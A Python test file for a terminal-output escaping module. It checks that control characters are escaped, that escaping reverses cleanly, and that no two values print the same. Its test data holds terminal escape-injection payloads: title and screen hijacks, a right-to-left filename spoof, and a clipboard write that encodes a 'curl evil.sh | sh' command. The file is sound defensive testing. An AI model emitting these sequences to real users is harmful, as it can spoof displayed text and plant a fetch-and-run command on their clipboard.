"""The one printer (workbench.textsafe): what it escapes, how, and that no two values print the same."""

from __future__ import annotations

import json
import re
import sys
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.textsafe import UNSAFE_RANGES, escape, escape_display, escape_json, is_safe

# The attacks of issue 35: retitle, clear, clipboard write, hyperlink, overwrite, reversal, CSI in C1.
ATTACKS = {
    "osc title": "\x1b]0;pwned\x07",
    "clear": "\x1b[2J",
    "osc 52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc 8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "bare cr": "safe\rEVIL",
    "rlo": "read_file\u202eexe.txt",
    "c1 csi": "\x9b2J",
}
UNSAFE_CATEGORIES = ("Cc", "Cf", "Cs", "Zl", "Zp")


def _raw_unsafe(text: str, layout: bool = False) -> list[str]:
    """Characters in ``text`` a terminal would act on (independent of the printer's own tables)."""
    return [c for c in text if unicodedata.category(c) in UNSAFE_CATEGORIES and not (layout and c in "\n\t")]


def unescape(shown: str) -> str:
    """The reader's side of ``escape``: the only grammar its output uses."""
    out = []
    i = 0
    while i < len(shown):
        c = shown[i]
        if c != "\\" or i + 1 == len(shown):
            out.append(c)
            i += 1
            continue
        nxt = shown[i + 1]
        if nxt in "\\nrt":
            out.append({"\\": "\\", "n": "\n", "r": "\r", "t": "\t"}[nxt])
            i += 2
            continue
        width = {"x": 2, "u": 4, "U": 8}.get(nxt, 0)
        digits = shown[i + 2 : i + 2 + width]
        if width and len(digits) == width and re.fullmatch("[0-9a-fA-F]+", digits):
            out.append(chr(int(digits, 16)))
            i += 2 + width
            continue
        out.append("\\")  # any other backslash is itself
        i += 1
    return "".join(out)


def test_attacks_are_shown_escaped() -> None:
    for name, attack in ATTACKS.items():
        for shown in (escape(attack), escape_display(attack), escape_display(attack, layout=True)):
            assert not _raw_unsafe(shown), f"{name}: {shown!r} still holds a raw control character"
    assert escape(ATTACKS["osc title"]) == "\\x1b]0;pwned\\x07"
    assert escape(ATTACKS["bare cr"]) == "safe\\rEVIL"
    assert escape(ATTACKS["rlo"]) == "read_file\\u202eexe.txt"
    assert escape(ATTACKS["c1 csi"]) == "\\x9b2J"
    assert escape("\ud800x") == "\\ud800x"  # a lone surrogate could not even be encoded for the terminal
    assert escape("tag\U000e0041") == "tag\\U000e0041"


def test_every_unsafe_character_of_this_python_is_listed() -> None:
    listed = {cp for lo, hi in UNSAFE_RANGES for cp in range(lo, hi + 1)}
    missing = [hex(cp) for cp in range(sys.maxunicode + 1)
               if unicodedata.category(chr(cp)) in UNSAFE_CATEGORIES and cp not in listed]
    assert not missing, f"Unicode {unicodedata.unidata_version} has characters to escape the list lacks: {missing}"


def test_plain_text_is_unchanged() -> None:
    for text in ("read_file", "C:\\Users\\me", "naïve café 日本語 👍", "a b", "\u00a0nbsp", ""):
        assert escape(text) == text
        assert escape_display(text) == text
    assert escape(None) == ""
    assert escape(42) == "42"


def test_one_line_forms_escape_newlines_and_tabs_a_block_keeps_them() -> None:
    assert escape("a\nb\tc") == "a\\nb\\tc"
    assert escape_display("a\nb\tc") == "a\\nb\\tc"
    assert escape_display("line 1\n\tline 2\x1b[2J", layout=True) == "line 1\n\tline 2\\x1b[2J"


def test_display_text_keeps_its_own_escapes() -> None:
    # a summary quote() wrote: its \n is already an escape; doubling it was issue 35's double escape
    assert escape_display('text "README.md\\nsrc"') == 'text "README.md\\nsrc"'
    assert escape_display("repr 'a\\x1b'\x1b") == "repr 'a\\x1b'\\x1b"


def test_backslash_is_doubled_only_where_it_would_read_as_an_escape() -> None:
    assert escape("a\x1bb") == "a\\x1bb"
    assert escape("a\\x1bb") == "a\\\\x1bb"
    assert escape("C:\\new\\Users") == "C:\\\\new\\Users"
    assert escape("\\") == "\\"
    assert escape("\\\x1b") == "\\\\\\x1b"


@settings(max_examples=400)
@given(st.text(alphabet=st.one_of(st.characters(codec=None), st.sampled_from("\\xuU0123456789abcdefABnrt\n\t\r\x1b")),
               max_size=30))
def test_escape_is_safe_and_reversible(text: str) -> None:
    shown = escape(text)
    assert not _raw_unsafe(shown), f"{text!r} printed as {shown!r}"
    assert unescape(shown) == text, f"{text!r} printed as {shown!r}, which reads back as {unescape(shown)!r}"


@settings(max_examples=200)
@given(st.text(alphabet=st.characters(codec=None), max_size=20), st.text(alphabet=st.characters(codec=None), max_size=20))
def test_two_different_values_never_print_the_same(a: str, b: str) -> None:
    if a != b:
        assert escape(a) != escape(b)


@settings(max_examples=300)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(alphabet=st.characters(codec=None)),
                    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
                    max_leaves=8))
def test_escape_json_is_the_same_json(value: object) -> None:
    for doc in (json.dumps(value, ensure_ascii=False), json.dumps(value, ensure_ascii=False, indent=2)):
        shown = escape_json(doc)
        assert not _raw_unsafe(shown, layout=True), shown
        assert json.loads(shown) == value


def test_is_safe() -> None:
    assert is_safe("a\nb\t")
    assert not is_safe("a\nb", layout=False)
    assert not is_safe("\x9b")
